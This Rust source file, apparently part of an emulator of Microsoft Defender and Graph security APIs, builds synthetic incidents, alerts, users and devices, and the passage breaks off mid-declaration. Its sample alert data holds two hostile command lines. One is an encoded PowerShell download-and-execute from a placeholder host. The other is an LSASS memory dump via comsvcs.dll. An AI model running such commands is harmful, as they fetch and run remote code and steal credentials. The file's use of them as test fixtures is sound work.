//! What a generated record says, independent of the API that shows it: names, states, users,
//! devices, files. The three APIs render these facts in their own shapes (`m365d.rs`,
//! `mde.rs`, `graph.rs`), so the same incident reads the same everywhere.

use serde_json::{Value, json};
use uuid::Builder;

use super::data::{Rec, TenantData, stream};
use super::edits::AlertEdit;
use super::odata::TextField;
use super::time::{self, TICKS_PER_SECOND};

/// Which product raised an alert.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Service {
    Endpoint,
    Office,
    Identity,
    CloudApps,
    /// Microsoft 365 Defender's own correlation alerts.
    Xdr,
    AadIdentityProtection,
    AppGovernance,
    DataLossPrevention,
    /// After `unknownFutureValue` in Graph's evolvable enum.
    DefenderForCloud,
    /// After `unknownFutureValue` in Graph's evolvable enum.
    Sentinel,
}

impl Service {
    /// M365 Defender `serviceSource`.
    pub(crate) fn m365d(self) -> &'static str {
        match self {
            Service::Endpoint => "MicrosoftDefenderForEndpoint",
            Service::Office => "MicrosoftDefenderForOffice365",
            Service::Identity => "MicrosoftDefenderForIdentity",
            Service::CloudApps => "MicrosoftCloudAppSecurity",
            Service::Xdr => "Microsoft365Defender",
            Service::AadIdentityProtection => "AzureAdIdentityProtection",
            Service::AppGovernance => "MicrosoftAppGovernance",
            Service::DataLossPrevention => "DataLossPrevention",
            Service::DefenderForCloud => "MicrosoftDefenderForCloud",
            Service::Sentinel => "MicrosoftSentinel",
        }
    }

    /// Graph `serviceSource`.
    pub(crate) fn graph(self) -> &'static str {
        match self {
            Service::Endpoint => "microsoftDefenderForEndpoint",
            Service::Office => "microsoftDefenderForOffice365",
            Service::Identity => "microsoftDefenderForIdentity",
            Service::CloudApps => "microsoftDefenderForCloudApps",
            Service::Xdr => "microsoft365Defender",
            Service::AadIdentityProtection => "azureAdIdentityProtection",
            Service::AppGovernance => "microsoftAppGovernance",
            Service::DataLossPrevention => "dataLossPrevention",
            Service::DefenderForCloud => "microsoftDefenderForCloud",
            Service::Sentinel => "microsoftSentinel",
        }
    }

    /// Graph's `serviceSource` (and the kind's `detectionSource`) come after
    /// `unknownFutureValue`: without `Prefer: include-unknown-enum-members` Graph sends
    /// `unknownFutureValue` instead.
    pub(crate) fn evolvable(self) -> bool {
        matches!(self, Service::DefenderForCloud | Service::Sentinel)
    }

    pub(crate) fn product(self) -> &'static str {
        match self {
            Service::Endpoint => "Microsoft Defender for Endpoint",
            Service::Office => "Microsoft Defender for Office 365",
            Service::Identity => "Microsoft Defender for Identity",
            Service::CloudApps => "Microsoft Defender for Cloud Apps",
            Service::Xdr => "Microsoft Defender XDR",
            Service::AadIdentityProtection => "Microsoft Entra ID Protection",
            Service::AppGovernance => "App governance",
            Service::DataLossPrevention => "Microsoft Data Loss Prevention",
            Service::DefenderForCloud => "Microsoft Defender for Cloud",
            Service::Sentinel => "Microsoft Sentinel",
        }
    }

    /// The alert id prefix that names the source.
    fn prefix(self) -> &'static str {
        match self {
            Service::Endpoint => "da",
            Service::Office => "fa",
            Service::Identity => "aa",
            Service::CloudApps => "ca",
            Service::Xdr => "ra",
            Service::AadIdentityProtection => "ad",
            Service::AppGovernance => "ma",
            Service::DataLossPrevention => "dl",
            Service::DefenderForCloud => "dc",
            Service::Sentinel => "sn",
        }
    }
}

/// The artifact an alert is about, besides device and user.
#[derive(Clone, Copy, Debug)]
pub(crate) enum Artifact {
    Process {
        file: &'static str,
        path: &'static str,
        command: &'static str,
        parent: &'static str,
        parent_path: &'static str,
    },
    File {
        file: &'static str,
        /// Under the user's profile.
        folder: &'static str,
    },
    Network {
        url: &'static str,
    },
    Mail {
        subject: &'static str,
        sender: &'static str,
        url: &'static str,
    },
    SignIn,
}

pub(crate) struct AlertKind {
    pub title: &'static str,
    pub description: &'static str,
    pub category: &'static str,
    pub mitre: &'static [&'static str],
    pub service: Service,
    /// M365 Defender and Defender for Endpoint `detectionSource`.
    pub detection: &'static str,
    /// Graph `detectionSource`.
    pub graph_detection: &'static str,
    pub threat_family: Option<&'static str>,
    pub threat_name: Option<&'static str>,
    pub artifact: Artifact,
    pub recommended_actions: &'static str,
}

const POWERSHELL: Artifact = Artifact::Process {
    file: "powershell.exe",
    path: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
    command: "powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAGMAZABuAC0AdQBwAGQAYQB0AGUAcwAuAGUAeABhAG0AcABsAGUALwBzAC4AcABzADEAKQA=",
    parent: "WINWORD.EXE",
    parent_path: "C:\\Program Files\\Microsoft Office\\root\\Office16",
};

/// Alerts of Defender for Endpoint (the `/api/alerts` records).
pub(crate) const ENDPOINT_KINDS: [AlertKind; 5] = [
    AlertKind {
        title: "Suspicious PowerShell command line",
        description: "A PowerShell process was started with an encoded command and a hidden window by an Office application. This pattern is typical of document-borne loaders.",
        category: "Execution",
        mitre: &["T1059.001", "T1105", "T1027"],
        service: Service::Endpoint,
        detection: "WindowsDefenderAtp",
        graph_detection: "microsoftDefenderForEndpoint",
        threat_family: None,
        threat_name: None,
        artifact: POWERSHELL,
        recommended_actions: "1. Isolate the device.\n2. Collect an investigation package.",
    },
    AlertKind {
        title: "'Remcos' backdoor was prevented",
        description: "Microsoft Defender Antivirus blocked a file that belongs to the Remcos remote-access malware family before it could run.",
        category: "Malware",
        mitre: &[],
        service: Service::Endpoint,
        detection: "WindowsDefenderAv",
        graph_detection: "antivirus",
        threat_family: Some("Remcos"),
        threat_name: Some("Backdoor:Win32/Remcos!rfn"),
        artifact: Artifact::File {
            file: "scan_0938.exe",
            folder: "Downloads",
        },
        recommended_actions: "Run a full antivirus scan on the device.",
    },
    AlertKind {
        title: "Suspicious access to LSASS service",
        description: "A process opened the Local Security Authority Subsystem Service and wrote its memory to disk.",
        category: "CredentialAccess",
        mitre: &["T1003.001"],
        service: Service::Endpoint,
        detection: "WindowsDefenderAtp",
        graph_detection: "microsoftDefenderForEndpoint",
        threat_family: None,
        threat_name: None,
        artifact: Artifact::Process {
            file: "rundll32.exe",
            path: "C:\\Windows\\System32",
            command: "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 772 C:\\ProgramData\\perf\\l.dmp full",
            parent: "cmd.exe",
            parent_path: "C:\\Windows\\System32",
        },
        recommended_actions: "Reset the passwords of accounts that signed in to the device.",
    },
    AlertKind {
        title: "Beacon-like outbound traffic to rarely seen domain",
        description: "Custom detection rule TW-NET-017: periodic HTTPS connections from a non-browser process to a rarely seen domain.",
        category: "CommandAndControl",
        mitre: &["T1071.001"],
        service: Service::Endpoint,
        detection: "CustomDetection",
        graph_detection: "customDetection",
        threat_family: None,
        threat_name: None,
        artifact: Artifact::Network {
            url: "https://telemetry-sync.example/api/v2/poll",
        },
        recommended_actions: "",
    },
    AlertKind {
        title: "Ransomware behavior detected in the file system",
        description: "Many files were renamed and encrypted in a short time by one process.",
        category: "Ransomware",
        mitre: &["T1486"],
        service: Service::Endpoint,
        detection: "WindowsDefenderAv",
        graph_detection: "antivirus",
        threat_family: Some("LockBit"),
        threat_name: Some("Ransom:Win32/LockBit.A"),
        artifact: Artifact::File {
            file: "svch0st.exe",
            folder: "AppData\\Local\\Temp",
        },
        recommended_actions: "Isolate the device at once.",
    },
];

/// Alerts of the other products (only in M365 Defender and Graph).
pub(crate) const OTHER_KINDS: [AlertKind; 3] = [
    AlertKind {
        title: "Email messages containing malicious URL removed after delivery\u{200b}",
        description: "Messages carrying a link that was judged malicious after delivery were pulled from the recipients' mailboxes. -V1.0.0.5",
        category: "InitialAccess",
        mitre: &["T1566.002"],
        service: Service::Office,
        detection: "OfficeATP",
        graph_detection: "microsoftDefenderForOffice365",
        threat_family: None,
        threat_name: None,
        artifact: Artifact::Mail {
            subject: "Q3 invoice ready for review",
            sender: "billing@acme-invoices.example",
            url: "https://acme-invoices.example/view?id=88213",
        },
        recommended_actions: "Review the clicked-URL report.",
    },
    AlertKind {
        title: "Suspected DCSync attack (replication of directory services)",
        description: "A user sent a replication request to a domain controller from a device that is not a domain controller.",
        category: "CredentialAccess",
        mitre: &["T1003.006"],
        service: Service::Identity,
        detection: "AzureAdvancedThreatProtection",
        graph_detection: "microsoftDefenderForIdentity",
        threat_family: None,
        threat_name: None,
        artifact: Artifact::SignIn,
        recommended_actions: "Validate that the source is not a domain controller.",
    },
    AlertKind {
        title: "Impossible travel activity",
        description: "The same user signed in from two distant countries within a time shorter than the travel between them.",
        category: "InitialAccess",
        mitre: &["T1078"],
        service: Service::CloudApps,
        detection: "MCAS",
        graph_detection: "cloudAppSecurity",
        threat_family: None,
        threat_name: None,
        artifact: Artifact::SignIn,
        recommended_actions: "Confirm the sign-ins with the user.",
    },
];

/// Alerts of the products that only Graph `alerts_v2` (and the incidents' `alerts`) list, besides
/// [`OTHER_KINDS`]: the `graph_alerts` records cycle through all nine non-endpoint kinds.
pub(crate) const MORE_KINDS: [AlertKind; 6] = [
    AlertKind {
        title: "Multi-stage attack involving credential theft and lateral movement",
        description: "Microsoft Defender XDR correlated sign-ins and endpoint activity into one attack story.",
        category: "LateralMovement",
        mitre: &["T1021", "T1078"],
        service: Service::Xdr,
        detection: "Microsoft365Defender",
        graph_detection: "microsoft365Defender",
        threat_family: None,
        threat_name: None,
        artifact: Artifact::SignIn,
        recommended_actions: "Review the attack story in the incident.",
    },
    AlertKind {
        title: "Unfamiliar sign-in properties",
        description: "A sign-in with properties not seen recently for this user (IP address, ASN, location).",
        category: "InitialAccess",
        mitre: &["T1078.004"],
        service: Service::AadIdentityProtection,
        detection: "AzureAdIdentityProtection",
        graph_detection: "azureAdIdentityProtection",
        threat_family: None,
        threat_name: None,
        artifact: Artifact::SignIn,
        recommended_actions: "Confirm the sign-in with the user or reset their password.",
    },
    AlertKind {
        title: "App with suspicious OAuth scope made graph calls to read email",
        description: "An OAuth app with high-privilege mail scopes read many messages through Microsoft Graph.",
        category: "Collection",
        mitre: &["T1114.002"],
        service: Service::AppGovernance,
        detection: "AppGovernanceDetection",
        graph_detection: "appGovernanceDetection",
        threat_family: None,
        threat_name: None,
        artifact: Artifact::Network {
            url: "https://graph.microsoft.com/v1.0/me/messages",
        },
        recommended_actions: "Disable the app and revoke its consent.",
    },
    AlertKind {
        title: "DLP policy match for document containing credit card numbers",
        description: "A file with sensitive information was shared outside the organization.",
        category: "Exfiltration",
        mitre: &["T1567"],
        service: Service::DataLossPrevention,
        detection: "MicrosoftDataLossPrevention",
        graph_detection: "microsoftDataLossPrevention",
        threat_family: None,
        threat_name: None,
        artifact: Artifact::File {
            file: "customers-q3.xlsx",
            folder: "OneDrive - Finance",
        },
        recommended_actions: "Review the shared file and the policy tip.",
    },
    AlertKind {
        title: "Suspicious process executed on a virtual machine",
        description: "Microsoft Defender for Servers saw a process commonly used by attackers on an Azure VM.",
        category: "Execution",
        mitre: &["T1059"],
        service: Service::DefenderForCloud,
        detection: "MicrosoftDefenderForServers",
        graph_detection: "microsoftDefenderForServers",
        threat_family: None,
        threat_name: None,
        artifact: Artifact::Network {
            url: "https://portal.azure.com/#blade/Microsoft_Azure_Security/AlertBlade",
        },
        recommended_actions: "Investigate the VM in Microsoft Defender for Cloud.",
    },
    AlertKind {
        title: "Rare administrative activity in the subscription (scheduled analytics rule)",
        description: "A Microsoft Sentinel scheduled analytics rule matched administrative operations rarely made by this user.",
        category: "Persistence",
        mitre: &["T1098"],
        service: Service::Sentinel,
        detection: "ScheduledAlerts",
        graph_detection: "scheduledAlerts",
        threat_family: None,
        threat_name: None,
        artifact: Artifact::SignIn,
        recommended_actions: "Review the rule's query results in Microsoft Sentinel.",
    },
];

/// The non-endpoint kinds, in the order `graph_alerts` cycle through them.
pub(crate) fn graph_only_kind(n: u64) -> &'static AlertKind {
    let total = (OTHER_KINDS.len() + MORE_KINDS.len()) as u64;
    let index = (n % total) as usize;
    if index < OTHER_KINDS.len() {
        &OTHER_KINDS[index]
    } else {
        &MORE_KINDS[index - OTHER_KINDS.len()]
    }
}

const USERS: [(&str, &str); 8] = [
    ("mreyes", "Marisol Reyes"),
    ("tchen", "Theo Chen"),
    ("dkim", "Dana Kim"),
    ("apatel", "Arjun Patel"),
    ("lnguyen", "Linh Nguyen"),
    ("sgarcia", "Sofia Garcia"),
    ("bwilson", "Ben Wilson"),
    ("eokoye", "Ebere Okoye"),
];

const ANALYSTS: [(&str, &str); 3] = [
    ("soc.tier1", "SOC Tier 1"),
    ("soc.tier2", "SOC Tier 2"),
    ("jon.okafor", "Jon Okafor"),
];

const GROUPS: [(&str, &str, u32); 4] = [
    ("fin", "Finance-Workstations", 417),
    ("hr", "HR-Laptops", 418),
    ("eng", "Engineering-Workstations", 421),
    ("ops", "Operations-Servers", 425),
];

const TAGS: [&str; 5] = [
    "Finance-Dept",
    "VIP-Device",
    "Commodity-Malware",
    "Phish-Campaign",
    "Pen-Test",
];

/// (classification, determination) of resolved incidents, in M365 Defender's spelling.
const VERDICTS: [(&str, &str); 5] = [
    ("TruePositive", "Malware"),
    ("TruePositive", "Phishing"),
    ("TruePositive", "MultiStagedAttack"),
    ("InformationalExpectedActivity", "SecurityTesting"),
    ("FalsePositive", "Other"),
];

const SEVERITIES: [&str; 4] = ["Informational", "Low", "Medium", "High"];

/// `InProgress` → `inProgress`, as Graph writes enums.
pub(crate) fn camel(value: &str) -> String {
    let mut chars = value.chars();
    match chars.next() {
        Some(first) => first.to_ascii_lowercase().to_string() + chars.as_str(),
        None => String::new(),
    }
}

pub(crate) struct Person {
    pub account: &'static str,
    pub display: &'static str,
    pub upn: String,
    pub sid: String,
    pub aad_id: String,
}

pub(crate) struct Device {
    pub machine_id: String,
    pub aad_device_id: Option<String>,
    pub host: String,
    pub dns_name: String,
    pub rbac_group: &'static str,
    pub rbac_group_id: u32,
    pub os_platform: &'static str,
    pub os_build: u32,
    pub version: &'static str,
    pub first_seen: i64,
    pub ip: String,
    pub tag: &'static str,
}

#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct Comment {
    pub text: String,
    pub by: String,
    pub by_display: String,
    pub at: i64,
}

pub(crate) struct IncidentFacts {
    pub id: u64,
    pub name: String,
    pub created: i64,
    pub updated: i64,
    /// M365 Defender spelling: Active, InProgress, Resolved, Redirected.
    pub status: &'static str,
    pub severity: &'static str,
    pub classification: &'static str,
    pub determination: &'static str,
    pub assigned_to: Option<(String, &'static str)>,
    pub tags: Vec<String>,
    pub comments: Vec<Comment>,
    /// Who changed it last through the API or the portal (`lastModifiedBy`), if anyone did.
    pub last_modified_by: Option<String>,
    pub redirect_to: Option<u64>,
    pub alerts: Vec<Rec>,
    pub priority_score: u64,
    pub description: Option<String>,
    pub resolving_comment: Option<String>,
}

pub(crate) struct AlertFacts {
    /// M365 Defender `alertId`, Defender for Endpoint `id`.
    pub id: String,
    /// Graph `alerts_v2` `id`: never the MDE id for Defender for Endpoint alerts.
    pub graph_id: String,
    /// Graph `providerAlertId`: the MDE id for Defender for Endpoint alerts.
    pub provider_id: String,
    pub incident_id: Option<u64>,
    pub kind: &'static AlertKind,
    pub created: i64,
    pub updated: i64,
    pub first_activity: i64,
    pub last_activity: i64,
    pub resolved: Option<i64>,
    /// New, InProgress, Resolved.
    pub status: &'static str,
    pub severity: &'static str,
    pub classification: Option<&'static str>,
    pub determination: Option<&'static str>,
    pub assigned_to: Option<(String, &'static str)>,
    pub investigation_id: Option<u64>,
    pub investigation_state: &'static str,
    pub detector_id: String,
    pub device: Option<Device>,
    pub user: Person,
    pub ip: String,
    pub sha1: String,
    pub sha256: String,
    pub process_id: u64,
    pub parent_process_id: u64,
    pub comments: Vec<Comment>,
    /// Graph `customDetails` written by an update (`{}` otherwise).
    pub custom_details: Option<serde_json::Map<String, Value>>,
}

/// Lower-case hex of `len` characters.
fn hex(data: &TenantData, stream: u64, index: u64, len: usize) -> String {
    let mut text = String::with_capacity(len + 16);
    let mut round = 0;
    while text.len() < len {
        text.push_str(&format!(
            "{:016x}",
            data.hash(stream, index.wrapping_mul(31).wrapping_add(round))
        ));
        round += 1;
    }
    text.truncate(len);
    text
}

pub(crate) fn guid(data: &TenantData, stream: u64, index: u64) -> String {
    let mut bytes = [0u8; 16];
    bytes[..8].copy_from_slice(&data.hash(stream, index).to_le_bytes());
    bytes[8..].copy_from_slice(&data.hash(stream, index ^ (1 << 63)).to_le_bytes());
    Builder::from_random_bytes(bytes).into_uuid().to_string()
}

fn pick<T: Copy>(values: &[T], hash: u64) -> T {
    values[(hash % values.len() as u64) as usize]
}

pub(crate) fn person(data: &TenantData, key: u64) -> Person {
    let index = (data.hash(stream::USER, key) % USERS.len() as u64) as usize;
    let (account, display) = USERS[index];
    let upn_local = display.to_ascii_lowercase().replace(' ', ".");
    Person {
        account,
        display,
        upn: format!("{upn_local}@{}", data.domain),
        sid: format!("S-1-5-21-3849201745-1902837465-2938475610-{}", 4400 + index),
        aad_id: guid(data, stream::USER, 1000 + index as u64),
    }
}

pub(crate) fn device(data: &TenantData, key: u64) -> Device {
    let number = data.hash(stream::DEVICE, key) % 400;
    let (prefix, group, group_id) = pick(&GROUPS, data.hash(stream::DEVICE, number + 7));
    let windows11 = !number.is_multiple_of(3);
    let host = format!("{prefix}-wks-{number:04}");
    Device {
        machine_id: hex(data, stream::DEVICE, number, 40),
        aad_device_id: (!number.is_multiple_of(5)).then(|| guid(data, stream::DEVICE, number)),
        dns_name: format!("{host}.corp.{}", data.domain),
        host,
        rbac_group: group,
        rbac_group_id: group_id,
        os_platform: if windows11 { "Windows11" } else { "Windows10" },
        os_build: if windows11 { 26100 } else { 19045 },
        version: if windows11 { "24H2" } else { "22H2" },
        first_seen: data.created(Rec::Incident(0))
            - 86_400 * TICKS_PER_SECOND * (30 + (number as i64 % 400))
            - (data.hash(stream::ACTIVITY, number) % TICKS_PER_SECOND as u64) as i64,
        ip: format!("10.40.{}.{}", number / 200, number % 200 + 20),
        tag: prefix,
    }
}

fn analyst(data: &TenantData, key: u64) -> (String, &'static str) {
    let (local, display) = pick(&ANALYSTS, data.hash(stream::ASSIGNED, key));
    (format!("{local}@{}", data.domain), display)
}

/// The incident-level state (status, severity, verdict, assignee) that alerts inherit.
struct IncidentState {
    status: &'static str,
    severity: &'static str,
    verdict: Option<(&'static str, &'static str)>,
    assigned_to: Option<(String, &'static str)>,
}

fn incident_state(data: &TenantData, index: u32) -> IncidentState {
    let key = u64::from(index);
    let roll = data.hash(stream::STATUS, key) % 100;
    let status = if data.redirected(index) {
        "Redirected"
    } else if roll < 45 {
        "Active"
    } else if roll < 60 {
        "InProgress"
    } else {
        "Resolved"
    };
    let severity = pick(&SEVERITIES, data.hash(stream::SEVERITY, key));
    let verdict = (status == "Resolved").then(|| pick(&VERDICTS, data.hash(stream::VERDICT, key)));
    let assigned_to = (status != "Active"
        || data.hash(stream::ASSIGNED, key ^ 1).is_multiple_of(3))
    .then(|| analyst(data, key));
    IncidentState {
        status,
        severity,
        verdict,
        assigned_to,
    }
}

/// What an incident shows: its generated state with any written values laid over it. Alerts
/// keep inheriting the generated state (a write to an incident does not cascade to them).
struct IncidentView {
    status: &'static str,
    severity: &'static str,
    classification: &'static str,
    determination: &'static str,
    assigned_to: Option<(String, &'static str)>,
}

fn incident_view(data: &TenantData, index: u32, state: &IncidentState) -> IncidentView {
    let (classification, determination) = state.verdict.unwrap_or(("Unknown", "NotAvailable"));
    let mut view = IncidentView {
        status: state.status,
        severity: state.severity,
        classification,
        determination,
        assigned_to: state.assigned_to.clone(),
    };
    if let Some(edit) = data.edits.incidents.get(&index) {
        if let Some(status) = edit.status {
            view.status = status;
        }
        if let Some(classification) = edit.classification {
            view.classification = classification;
        }
        if let Some(determination) = edit.determination {
            view.determination = determination;
        }
        if let Some(assigned) = &edit.assigned_to {
            view.assigned_to = assigned.clone().map(|upn| (upn, ""));
        }
    }
    view
}

fn kind_of(data: &TenantData, alert: Rec) -> &'static AlertKind {
    match alert {
        Rec::Mde(j) => {
            &ENDPOINT_KINDS
                [(data.hash(stream::KIND, u64::from(j)) % ENDPOINT_KINDS.len() as u64) as usize]
        }
        Rec::Extra(i) | Rec::Incident(i) => {
            &OTHER_KINDS[(data.hash(stream::KIND, u64::from(i) | (1 << 40))
                % OTHER_KINDS.len() as u64) as usize]
        }
        // Consecutive records cycle through every non-endpoint product.
        Rec::Graph(j) => graph_only_kind(u64::from(j).wrapping_add(data.config.seed)),
    }
}

pub(crate) fn incident(data: &TenantData, index: u32) -> IncidentFacts {
    let key = u64::from(index);
    let state = incident_state(data, index);
    let edit = data.edits.incidents.get(&index);
    let created = data.created(Rec::Incident(index));
    let updated = data.updated(Rec::Incident(index));
    let alerts = data.alerts_of(index);
    let redirect_to = data.redirected(index).then(|| data.incident_id(index + 1));

    let lead = match alerts.first() {
        Some(alert) => *alert,
        None => data
            .mde_block(index)
            .next()
            .map_or(Rec::Extra(index), Rec::Mde),
    };
    let lead_kind = kind_of(data, lead);
    let scope = if lead_kind.service == Service::Endpoint {
        "on one endpoint"
    } else {
        "involving one user"
    };
    let mut categories: Vec<&str> = alerts
        .iter()
        .map(|alert| kind_of(data, *alert).category)
        .collect();
    categories.dedup();
    let name = if categories.len() >= 2 {
        format!(
            "Multi-stage incident involving {} & {} {scope}",
            categories[0], categories[1]
        )
    } else {
        format!("{} {scope}", lead_kind.title.trim_end_matches('\u{200b}'))
    };

    let tags: Vec<String> = match edit.and_then(|edit| edit.custom_tags.as_ref()) {
        Some(tags) => tags.clone(),
        None => match data.hash(stream::TAGS, key) % 4 {
            0 => vec![pick(&TAGS, data.hash(stream::TAGS, key + 1)).to_owned()],
            _ => Vec::new(),
        },
    };
    let mut comments = Vec::new();
    if let Some((upn, display)) = &state.assigned_to
        && state.status != "Redirected"
    {
        let text = if let Some((classification, determination)) = state.verdict {
            format!("Closing as {classification} / {determination}.")
        } else {
            "Escalated from tier 1 for review.".to_owned()
        };
        // From the generated last update, so that a later touch or write does not move it.
        let generated_updated = data.generated_updated(Rec::Incident(index));
        comments.push(Comment {
            text,
            by: upn.clone(),
            by_display: (*display).to_owned(),
            at: created
                + (generated_updated - created) / 2
                + (data.hash(stream::ACTIVITY, key) % 1000) as i64,
        });
    }
    if let Some(edit) = edit {
        comments.extend(edit.comments.iter().cloned());
    }
    let view = incident_view(data, index, &state);
    IncidentFacts {
        id: data.incident_id(index),
        name,
        created,
        updated,
        status: view.status,
        severity: view.severity,
        classification: view.classification,
        determination: view.determination,
        assigned_to: view.assigned_to,
        tags,
        comments,
        last_modified_by: edit.and_then(|edit| edit.last_modified_by.clone()),
        redirect_to,
        alerts,
        priority_score: data.hash(stream::PRIORITY, key) % 101,
        description: data
            .hash(stream::PRIORITY, key ^ 3)
            .is_multiple_of(4)
            .then(|| {
                format!(
                    "Generated incident {} of the emulator.",
                    data.incident_id(index)
                )
            }),
        resolving_comment: state
            .verdict
            .map(|(classification, _)| format!("Resolved as {classification}.")),
    }
}

pub(crate) fn alert(data: &TenantData, alert: Rec) -> AlertFacts {
    let kind = kind_of(data, alert);
    let owner = data.incident_of(alert);
    // The alerts of one incident share its device and user.
    let context_key = match (owner, alert) {
        (Some(incident), _) => u64::from(incident),
        (None, Rec::Mde(j))
        | (None, Rec::Extra(j))
        | (None, Rec::Incident(j))
        | (None, Rec::Graph(j)) => u64::from(j) | (1 << 41),
    };
    let key = alert_key(alert);
    let state = match owner {
        Some(incident) => incident_state(data, incident),
        None => {
            let roll = data.hash(stream::STATUS, key) % 3;
            IncidentState {
                status: ["Active", "InProgress", "Resolved"][roll as usize],
                severity: pick(&SEVERITIES, data.hash(stream::SEVERITY, key)),
                verdict: (roll == 2).then(|| pick(&VERDICTS, data.hash(stream::VERDICT, key))),
                assigned_to: (roll > 0).then(|| analyst(data, key)),
            }
        }
    };
    let created = data.created(alert);
    let updated = data.updated(alert);
    let lead_time = (data.hash(stream::ACTIVITY, key) % (600 * TICKS_PER_SECOND as u64)) as i64;
    let first_activity = created - lead_time - TICKS_PER_SECOND;
    let last_activity = first_activity + lead_time / 2;
    let status = match state.status {
        "Resolved" => "Resolved",
        "InProgress" => "InProgress",
        _ => "New",
    };
    let resolved = (status == "Resolved").then(|| {
        (updated - (data.hash(stream::ACTIVITY, key ^ 5) % (2 * TICKS_PER_SECOND as u64)) as i64)
            .max(created)
    });
    let investigation_state = match (kind.service, status) {
        (
            Service::Identity
            | Service::CloudApps
            | Service::Xdr
            | Service::AadIdentityProtection
            | Service::AppGovernance
            | Service::DataLossPrevention
            | Service::DefenderForCloud
            | Service::Sentinel,
            _,
        ) => "UnsupportedAlertType",
        (_, "Resolved") => "SuccessfullyRemediated",
        (_, "InProgress") => "PendingApproval",
        _ => "Running",
    };
    let id_guid = guid(data, stream::ID, key);
    // The id M365 Defender and the product's own API use, and Graph's `id`: a Defender for
    // Endpoint alert keeps its MDE id as Graph's `providerAlertId` (reference §10).
    let (id, graph_id, provider_id) = match kind.service {
        Service::Endpoint => {
            let id = format!(
                "da{}_{}",
                time::dotnet_ticks(created),
                data.hash(stream::ID, key) as i32
            );
            (id.clone(), format!("ea{id_guid}"), id)
        }
        service => {
            let id = format!("{}{id_guid}", service.prefix());
            (id.clone(), id, id_guid.clone())
        }
    };
    let kind_index = ENDPOINT_KINDS
        .iter()
        .chain(OTHER_KINDS.iter())
        .chain(MORE_KINDS.iter())
        .position(|k| std::ptr::eq(k, kind))
        .unwrap_or(0) as u64;
    let sha_key = key ^ (kind_index << 50);
    let mut comments = Vec::new();
    if let Some((upn, display)) = &state.assigned_to
        && status == "InProgress"
    {
        comments.push(Comment {
            text: "Isolation requested; waiting on approval.".to_owned(),
            by: upn.clone(),
            by_display: (*display).to_owned(),
            at: (data.generated_updated(alert) - TICKS_PER_SECOND).max(created),
        });
    }
    let mut facts = AlertFacts {
        id,
        graph_id,
        provider_id,
        incident_id: owner.map(|incident| data.incident_id(incident)),
        kind,
        created,
        updated,
        first_activity,
        last_activity,
        resolved,
        status,
        severity: state.severity,
        classification: state.verdict.map(|(classification, _)| classification),
        determination: state.verdict.map(|(_, determination)| determination),
        assigned_to: state.assigned_to,
        investigation_id: matches!(kind.service, Service::Endpoint | Service::Office)
            .then(|| 30_000 + context_key),
        investigation_state,
        detector_id: guid(data, stream::GUID, kind_index),
        device: (kind.service == Service::Endpoint).then(|| device(data, context_key)),
        user: person(data, context_key),
        ip: format!(
            "203.0.113.{}",
            data.hash(stream::DEVICE, context_key ^ 9) % 250 + 1
        ),
        sha1: hex(data, stream::HASH, sha_key, 40),
        sha256: hex(data, stream::HASH, sha_key ^ (1 << 60), 64),
        process_id: 1000 + data.hash(stream::HASH, key ^ 11) % 9000,
        parent_process_id: 1000 + data.hash(stream::HASH, key ^ 13) % 9000,
        comments,
        custom_details: None,
    };
    if let Some(edit) = data.edits.alerts.get(&alert) {
        apply_alert_edit(&mut facts, edit);
    }
    facts
}

/// Lays an alert's written values over its generated facts.
fn apply_alert_edit(facts: &mut AlertFacts, edit: &AlertEdit) {
    if let Some(status) = edit.status {
        facts.status = status;
    }
    if let Some(resolved) = edit.resolved {
        facts.resolved = resolved;
    }
    if let Some(assigned) = &edit.assigned_to {
        facts.assigned_to = assigned.clone().map(|upn| (upn, ""));
    }
    if let Some(classification) = edit.classification {
        facts.classification = Some(classification);
    }
    if let Some(determination) = edit.determination {
        facts.determination = Some(determination);
    }
    if edit.custom_details.is_some() {
        facts.custom_details.clone_from(&edit.custom_details);
    }
    facts.comments.extend(edit.comments.iter().cloned());
}

/// The per-alert key of the hash streams (ids, activity times, hashes).
fn alert_key(alert: Rec) -> u64 {
    match alert {
        Rec::Mde(j) => u64::from(j),
        Rec::Extra(i) | Rec::Incident(i) => u64::from(i) | (1 << 42),
        Rec::Graph(j) => u64::from(j) | (1 << 43),
    }
}

/// An alert's Graph `alerts_v2` id alone, without computing the rest of its facts (it must
/// equal [`alert`]'s `graph_id`): for finding an alert by id.
pub(crate) fn graph_alert_id(data: &TenantData, alert: Rec) -> String {
    let kind = kind_of(data, alert);
    let id_guid = guid(data, stream::ID, alert_key(alert));
    match kind.service {
        Service::Endpoint => format!("ea{id_guid}"),
        service => format!("{}{id_guid}", service.prefix()),
    }
}

/// Graph's spelling of an M365 Defender enum value.
pub(crate) fn graph_enum(value: &str) -> String {
    match value {
        "NotAvailable" | "UnSpecified" => "unknown".to_owned(),
        other => camel(other),
    }
}

/// An incident's value of a text property of `$filter`, in the API's spelling.
pub(crate) fn incident_text(
    data: &TenantData,
    index: u32,
    field: TextField,
    graph: bool,
) -> Option<String> {
    let view = incident_view(data, index, &incident_state(data, index));
    let value = match field {
        TextField::Status => view.status,
        TextField::Severity => view.severity,
        TextField::Classification => view.classification,
        TextField::Determination => view.determination,
        TextField::AssignedTo => return view.assigned_to.map(|(upn, _)| upn),
        TextField::Id => return Some(data.incident_id(index).to_string()),
        TextField::ServiceSource => return None,
    };
    Some(if graph {
        graph_enum(value)
    } else {
        value.to_owned()
    })
}

/// An alert's value of a text property of `$filter`, in the API's spelling.
pub(crate) fn alert_text(alert: &AlertFacts, field: TextField, graph: bool) -> Option<String> {
    let value = match field {
        TextField::Status => alert.status,
        TextField::Severity => alert.severity,
        TextField::Classification => alert.classification?,
        TextField::Determination => alert.determination?,
        TextField::AssignedTo => return alert.assigned_to.as_ref().map(|(upn, _)| upn.clone()),
        TextField::Id => return Some(alert.id.clone()),
        TextField::ServiceSource => {
            return Some(
                if graph {
                    alert.kind.service.graph()
                } else {
                    alert.kind.service.m365d()
                }
                .to_owned(),
            );
        }
    };
    Some(if graph {
        graph_enum(value)
    } else {
        value.to_owned()
    })
}

/// The kind of an entity, as M365 Defender and MDE name it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum EntityKind {
    User,
    Process,
    File,
    Ip,
